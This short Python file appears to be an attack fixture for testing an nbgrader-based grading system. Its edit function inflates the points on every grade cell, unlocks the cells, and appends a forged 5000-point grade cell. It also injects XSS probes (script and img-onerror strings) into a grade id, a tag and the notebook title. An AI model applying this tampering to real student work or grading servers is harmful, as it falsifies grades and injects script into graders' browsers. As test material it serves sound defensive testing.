"""Forges nbgrader metadata: points by the thousand, grade ids that break out of HTML, duplicated grade cells.

kind: edit
proof: ATTACK-FORGED-CELL
"""

import json


def edit(folder):
    path = folder / "tp5.ipynb"
    notebook = json.loads(path.read_text())
    for cell in notebook["cells"]:
        nbgrader = cell.get("metadata", {}).get("nbgrader")
        if nbgrader:
            nbgrader["points"] = 1000
            nbgrader["locked"] = False
    forged = {"grade": True, "solution": False, "locked": True, "points": 5000, "schema_version": 3, "task": False,
              "grade_id": 'x"><script>alert(1)</script>'}  # fmt: skip
    notebook["cells"].append({"cell_type": "code", "metadata": {"nbgrader": forged, "tags": ['"><img src=x onerror=alert(1)>']},
                              "source": "# ATTACK-FORGED-CELL", "outputs": [], "execution_count": None})  # fmt: skip
    notebook["metadata"]["title"] = "</title><script>alert('title')</script>"
    path.write_text(json.dumps(notebook))
